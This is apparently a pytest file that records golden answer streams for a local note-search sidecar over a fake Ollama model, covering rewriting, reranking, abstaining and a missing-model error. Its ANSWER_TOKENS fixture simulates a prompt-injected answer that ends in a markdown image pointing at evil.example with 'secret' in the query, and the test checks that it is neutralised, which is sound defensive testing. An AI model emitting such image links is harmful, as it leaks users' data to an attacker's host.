"""Golden ask streams: the real sidecar's /api/ask bytes over a real index, the fake Ollama embedding and chatting.

The plugin's tests read the same files (tests/fixtures/api/), so every event the plugin is tested on is one the
sidecar really builds. Only the timings depend on the run: each is checked, then pinned, and the line re-encoded
with the sidecar's own encoder (a re-encoding proven to reproduce the sent bytes).
`ASKVAULT_UPDATE_GOLDEN=1 pytest tests/api/test_golden_ask.py` rewrites them after an intended change.
"""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

from askvault.api.encode import dumps
from askvault.config import Config, PromptParams, RetrievalParams
from tests.api.engine_sidecar import EngineSidecar, engine_sidecar, sidecar_config
from tests.api.golden import check_golden
from tests.conftest import RunningOllama
from tests.fakes.ollama_server import ChatScript

NOTES: dict[str, str | bytes] = {
    "Homelab/Postgres.md": (
        "---\ntags: [homelab, database]\n---\n# Postgres\n\n## Connection\n\n"
        "The database container publishes port 5433 on the host (5432 inside the container). Connect with "
        "`psql -h nas.local -p 5433 -U homelab`; the password is in the password manager.\n"
    ),
    "Homelab/Kodi.md": (
        "---\ntags: [homelab, media]\n---\n# Kodi\n\n## Maintenance\n\n"
        "Every few months: clear the thumbnail cache, vacuum the music database and check the add-on repository "
        "for updates. Take a backup of the userdata folder before upgrading to a new major version.\n"
    ),
    "Journal/2026-11-02.md": (
        "# 2026-11-02\n\nUpdated Kodi to 21.2 on the living-room box; the library scan now skips the Incoming "
        "folder. The container host needs a new port map.\n"
    ),
    "Recipes/Soup.md": "# Lentil soup\n\nOnions, carrots, red lentils and cumin; simmer for twenty minutes.\n",
}
HISTORY = [
    {"role": "user", "content": "Where does the Postgres container run?"},
    {"role": "assistant", "content": "On the NAS, as a Docker container [1]."},
]
QUESTION = "and which port does it use?"
REWRITE = "Which port does the Postgres container use?"
# The last token repeats what a hostile note asked for: `done.answer` carries its inert form, the tokens stay raw.
ANSWER_TOKENS = [
    "The Postgres container",
    " publishes port 5433",
    " on the host",
    " (5432 inside the container) [1]. ![port map](https://evil.example/ports.png?q=secret)",
]
ABSTAIN_QUESTION = "Which cumin tyre pressure suits a cargo bike?"
PINNED_TIMINGS = {"embed": 10.4, "retrieval": 3.1}
PINNED_RERANK_MS = 2104.7
PINNED_METRICS = {
    "embed_ms": 10.4,
    "retrieval_ms": 3.1,
    "first_token_ms": 412.0,
    "generation_ms": 1280.5,
    "total_ms": 1706.2,
}


def _config(tmp_path: Path, ollama_url: str) -> Config:
    """The defaults but a reranker on (so its report is pinned too) and two sources to a prompt (so one is cut)."""
    config = sidecar_config(
        tmp_path / "vault",
        tmp_path / "data",
        ollama_url,
        retrieval=RetrievalParams(rerank=True, rerank_candidates=3),
        prompt=PromptParams(max_sources=2),
    )
    return dataclasses.replace(config, ollama=dataclasses.replace(config.ollama, chat_model="llama3.2:3b"))


def _timing(value: object) -> bool:
    return isinstance(value, float | int) and value >= 0


def _pin(event: dict[str, object]) -> dict[str, object]:
    """The event with its run-dependent timings replaced by fixed ones, after checking they are timings."""
    pinned = dict(event)
    if event["type"] == "retrieval":
        timings = event["timings_ms"]
        assert isinstance(timings, dict)
        assert set(timings) == set(PINNED_TIMINGS)
        assert all(_timing(v) for v in timings.values())
        pinned["timings_ms"] = dict(PINNED_TIMINGS)
        rerank = event["rerank"]
        if isinstance(rerank, dict):
            assert _timing(rerank["ms"])
            pinned["rerank"] = {**rerank, "ms": PINNED_RERANK_MS}
    elif event["type"] == "done":
        metrics = event["metrics"]
        assert isinstance(metrics, dict)
        fixed: dict[str, float | None] = {}
        for name, value in PINNED_METRICS.items():
            # A figure the sidecar did not measure (no model call) stays null.
            assert metrics[name] is None or _timing(metrics[name])
            fixed[name] = None if metrics[name] is None else value
        pinned["metrics"] = {**metrics, **fixed}
    return pinned


async def _stream(car: EngineSidecar, body: dict[str, object]) -> str:
    """The /api/ask body exactly as sent, its timings pinned."""
    async with car.session.post(car.url("/api/ask"), json=body, headers=car.auth()) as resp:
        assert resp.status == 200
        assert resp.headers["Content-Type"].startswith("application/x-ndjson")
        raw = (await resp.read()).decode("utf-8")
    # One compact JSON object per line, each ending in \n, exactly as the sidecar's encoder writes it.
    assert raw.endswith("\n")
    lines = raw.splitlines()
    assert all(dumps(json.loads(line)) == line for line in lines)
    return "".join(dumps(_pin(json.loads(line))) + "\n" for line in lines)


async def test_ask_golden(tmp_path: Path, fake_ollama: RunningOllama) -> None:
    """A follow-up: rewritten by the model, reranked, answered with a hostile image that `done` neutralises."""
    fake_ollama.fake.scripts = [
        ChatScript(tokens=[REWRITE]),
        ChatScript(tokens=['{"ranking": ["c1", "c2"]}']),
        ChatScript(tokens=list(ANSWER_TOKENS)),
    ]
    async with engine_sidecar(_config(tmp_path, fake_ollama.url), NOTES) as car:
        produced = await _stream(car, {"question": QUESTION, "history": HISTORY, "k": 3})
    events = [json.loads(line) for line in produced.splitlines()]
    assert [e["type"] for e in events] == ["retrieval", *["token"] * len(ANSWER_TOKENS), "done"]
    retrieval, done = events[0], events[-1]
    assert (retrieval["query"], retrieval["rewritten"]) == (REWRITE, True)
    assert retrieval["rerank"]["applied"] is True
    assert retrieval["relevance"]["answer"] is True
    assert [s["n"] for s in retrieval["sources"]] == [1, 2, None]
    assert "date_scope" in retrieval
    assert done["neutralised"] == [{"kind": "image", "target": "evil.example"}]
    assert "https://" not in done["answer"]
    check_golden("ask.ndjson", produced)


async def test_ask_abstain_golden(tmp_path: Path, fake_ollama: RunningOllama) -> None:
    """A question the notes do not cover: the relevance decision keeps them back, so no model is called."""
    async with engine_sidecar(_config(tmp_path, fake_ollama.url), NOTES) as car:
        produced = await _stream(car, {"question": ABSTAIN_QUESTION, "k": 3})
    events = [json.loads(line) for line in produced.splitlines()]
    assert events[0]["relevance"]["answer"] is False
    assert events[0]["closest"]
    assert events[-1]["no_results"] is True
    assert fake_ollama.fake.calls("/api/chat") == []
    check_golden("ask_abstain.ndjson", produced)


async def test_ask_error_golden(tmp_path: Path, fake_ollama: RunningOllama) -> None:
    """The answer model is missing: retrieval is sent, then the one `error` event that ends the stream."""
    fake_ollama.fake.scripts = [
        ChatScript(tokens=['{"ranking": ["c1"]}']),
        ChatScript(tokens=[], status=404, error='model "llama3.2:3b" not found, try pulling it first'),
    ]
    async with engine_sidecar(_config(tmp_path, fake_ollama.url), NOTES) as car:
        produced = await _stream(car, {"question": REWRITE, "k": 3})
    events = [json.loads(line) for line in produced.splitlines()]
    assert [e["type"] for e in events] == ["retrieval", "error"]
    assert events[-1]["code"] == "model_missing"
    check_golden("ask_error.ndjson", produced)
